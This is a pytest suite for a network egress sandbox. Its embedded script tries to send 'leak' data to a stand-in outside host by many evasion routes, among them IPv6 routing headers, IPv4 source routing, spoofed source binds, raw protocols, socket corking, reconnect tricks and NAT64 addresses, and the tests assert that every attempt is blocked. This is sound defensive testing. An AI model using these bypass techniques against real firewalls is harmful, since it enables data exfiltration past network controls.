# SPDX-License-Identifier: Apache-2.0
"""What programs without a capability may ask of their sockets, and of no library: nothing of it leaves but for where the policy
lets it."""
import json

import pytest

from test_host_daemon import STRANGER, STRANGER6, attached
from world.expect import PATIENCE
from world.lies import DEAF, DETOURS, LIES, OVER
from world.member import cgroup_root

ODD = r"""
import ctypes, socket, struct, sys
S4, S6, A4, A6 = sys.argv[1:5]
I4, I6, UDP, TCP = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_STREAM
IPV6_RTHDR, IPV6_PKTINFO, FREEBIND = (41, 57), (41, 50), {I4: (0, 15), I6: (41, 78)}

def sock(family, kind, protocol=0, options=()):
    s = socket.socket(family, kind, protocol)
    s.settimeout(0.2)
    for level, option, value in options:
        s.setsockopt(level, option, value)
    return s

def send(family, kind, to, *options, protocol=0, flags=0, bind=None, data=b"leak", port=443):
    try:
        with sock(family, kind, protocol, options) as s:
            if bind:
                s.bind((bind, 0))
            if kind == TCP and not flags:
                s.connect((to, port))
                s.send(data)
            else:
                s.sendto(data, flags, (to, port))
    except OSError:
        pass

def segments(*last_first):
    n = len(last_first)
    return (*IPV6_RTHDR, struct.pack("!BBBBBBH", 0, 2 * n, 4, n - 1, n - 1, 0, 0) + b"".join(socket.inet_pton(I6, a) for a in last_first))

def source_route(first):
    return (0, 4, b"\1" + struct.pack("!BBB", 131, 7, 4) + socket.inet_aton(first))

for kind in (UDP, TCP):
    for last, first in ((S6, A6), (A6, S6), (S6, "::1"), (A6, "::1"), (A6, A6)):
        for port in (443, 53):
            send(I6, kind, last, segments(last, first), port=port)
    for last, first in ((S4, A4), (A4, S4), (S4, "127.0.0.1")):
        send(I4, kind, last, source_route(first))
    for family, to, source in ((I6, S6, "2a01:dead::1"), (I6, A6, "2a01:dead::1"), (I4, S4, "9.1.2.3"), (I4, A4, "9.1.2.3")):
        send(family, kind, to, (*FREEBIND[family], 1), bind=source)
    send(I6, kind, "::ffff:" + S4)
# a flow that stands, and then a way round
with sock(I6, UDP) as s:
    s.connect((A6, 7007))
    s.send(b"first")
    s.recv(99)
    try:
        s.setsockopt(*segments(S6, A6))
        s.send(b"leak")
    except OSError:
        pass
for family, to in ((I4, S4), (I6, S6)):
    send(family, TCP, to, protocol=262)                 # MPTCP
    send(family, TCP, to, flags=0x20000000)             # TCP fast open
    send(family, UDP, to, (17, 103, 100), data=b"leak" * 500)  # segmented by the kernel
    send(family, UDP, to, data=b"leak" * 4000)          # in fragments
    for protocol in (1, 2, 33, 41, 47, 58, 103, 115, 132, 136, 143):
        for kind in (UDP, TCP, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            send(family, kind, to, protocol=protocol)
# corked towards one, and then another
with sock(I4, UDP, options=[(17, 1, 1)]) as s:
    try:
        s.sendto(b"may ", (A4, 443))
        s.sendto(b"pass", (S4, 443))
        s.setsockopt(17, 1, 0)
    except OSError:
        pass
# connected, let go of, and connected elsewhere
with sock(I4, TCP) as s:
    try:
        s.connect((A4, 7007))
        ctypes.CDLL(None).connect(s.fileno(), b"\0" * 16, 16)
        s.connect((S4, 443))
        s.send(b"leak")
    except OSError:
        pass
for to in ("0.0.0.0", "255.255.255.255", "224.0.0.1", "239.1.2.3", "127.255.255.255", "240.0.0.1", "169.254.1.1"):
    for port in (9, 53, 5353):
        send(I4, UDP, to, (1, 6, 1), port=port)
for to in ("ff02::1%up0", "ff02::fb%up0", "ff0e::1", "::", "64:ff9b::5d09:909", "2002:5d09:909::1", "::5d09:909"):
    for port in (9, 53, 5353):
        send(I6, UDP, to, port=port)
print("done")
"""
KINDS = [pytest.param(kind, marks=pytest.mark.skipif(not cgroup_root(), reason="no cgroup v2 here")) for kind in ("cgroup", "uid")]


@pytest.mark.parametrize("kind", [*KINDS, "netns"])
def test_odd_packets(host, tree, pod, site, kind):
    app, source, who = pod, pod, {"netns": pod.ns.path}
    if kind != "netns":
        app, _, who = attached(host, tree, kind)
        source = host
    document = {"verify": "dns", "egress": [{"action": "allow", "target": site.name}]}
    reply = host.daemon().call("PUT", "/sandboxes/one", {**who, "policy": document})
    assert reply.status == 201, reply
    four, six = app.probe(["dns", site.name], ["dns", site.name, "AAAA"])
    assert four.addresses == [site.v4] and six.addresses == [site.v6]
    done = app.run("/usr/bin/python3", "-IS", "-c", ODD, STRANGER, STRANGER6, site.v4, site.v6)
    assert done.code == 0 and "done" in done.text, done
    left = [p for p in source.capture.packets(0.2) if p.src in (source.ip4, source.ip6) and not p.is_noise() and p.dport != 53]
    assert {p.proto for p in left} <= {"tcp", "udp"} and {p.dst for p in left} <= {site.v4, site.v6}, left
    said = {p.payload for p in left if p.payload}
    assert b"first" in said and said <= {b"first", b"may pass"}, said


@pytest.mark.parametrize("kind", [*KINDS, "netns"])
@pytest.mark.parametrize("port53", [False, True], ids=["", "port 53"])
def test_lies_and_detours(host, tree, pod, site, kind, port53):
    """Sources that are made up, answers to them, IP options and routing headers."""
    app, source, who = pod, pod, {"netns": pod.ns.path}
    if kind != "netns":
        app, _, who = attached(host, tree, kind)
        source = host
    ports = [7007] + [53] * port53
    rules = [{"action": "allow", "target": a, "ports": ports} for a in (site.v4, site.v6)]
    reply = host.daemon().call("PUT", "/sandboxes/one", {**who, "policy": {"verify": "dns", "egress": rules}})
    assert reply.status == 201, reply
    assert app.probe(["udp", site.v6, 7007, "first", PATIENCE / 2]).data == "first"
    far, near = [STRANGER, STRANGER6], [["127.0.0.1", source.ip4], ["::1", source.ip6]]
    for program, args in ((LIES, (far, near, [site.v4, site.v6], [site.v4, site.v6], 0)), (DETOURS, ([site.v4, site.v6], far, [site.v4, site.v6]))):
        done = app.run("/usr/bin/python3", "-IS", "-c", program, *map(json.dumps, args), timeout=120)
        assert done.code == 0 and "ANSWER" not in done.text, done
    left = [p for p in source.capture.packets(0.2) if not p.is_noise()]
    assert any(p.payload == b"first" for p in left)
    assert [p for p in left if {p.src, p.dst} & set(far) or p.proto in ("43", "icmp", "icmp6") or p.payload.endswith((b"LIE", b"OPTION"))] == []


LISTENER = """
import socket, sys
s = socket.create_server(("127.0.0.1", 7411))
print("listens", flush=True)
c, _ = s.accept()
print("reached", flush=True)
"""


@KINDS[0].marks[0]
def test_a_listener_of_the_host_over_an_old_flow(host, tree):
    """The flow is one that the control group has made, to a port that was its own then."""
    app, other, who = attached(host, tree, "cgroup")
    reply = host.daemon().call("PUT", "/sandboxes/one", {**who, "policy": {"verify": "dns", "egress": []}})
    assert reply.status == 201, reply
    port = app.run("/usr/bin/python3", "-IS", "-c", DEAF, 7411).text.strip()
    server = other.start("/usr/bin/python3", "-IS", "-c", LISTENER)
    assert server.line() == "listens"
    assert app.run("/usr/bin/python3", "-IS", "-c", OVER, 7411, port).text.strip() == '"ECONNREFUSED"'
    assert other.run("/usr/bin/python3", "-IS", "-c", OVER, 7411, 0).code == 0 and server.line() == "reached"


@pytest.mark.parametrize("kind", [*KINDS, "netns"])
def test_a_denied_address_behind_a_translator(host, tree, pod, kind):
    """Where a network has NAT64, each IPv4 address stands behind 64:ff9b::/96."""
    app, source, who = pod, pod, {"netns": pod.ns.path}
    if kind != "netns":
        app, _, who = attached(host, tree, kind)
        source = host
    document = {"verify": "dns", "defaultAction": "allow",
                "egress": [{"action": "deny", "target": t} for t in (STRANGER, "10.0.0.0/8")]}
    reply = host.daemon().call("PUT", "/sandboxes/one", {**who, "policy": document})
    assert reply.status == 201, reply
    # the metadata server and known resolvers are denied unasked
    denied = [f"64:ff9b::{a}" for a in ("5d09:909", "a01:203", "a9fe:a9fe", "808:808")]
    answers = app.probe(*(["udp", a, 443, "x"] for a in (*denied, "64:ff9b::5d09:90a")))
    assert not [a for a in answers[:-1] if a.result in ("ok", "sent")], answers
    left = source.capture.packets(0.2)
    assert {p.dst for p in left if p.dst.startswith("64:ff9b:")} == {"64:ff9b::5d09:90a"}, (left, answers)
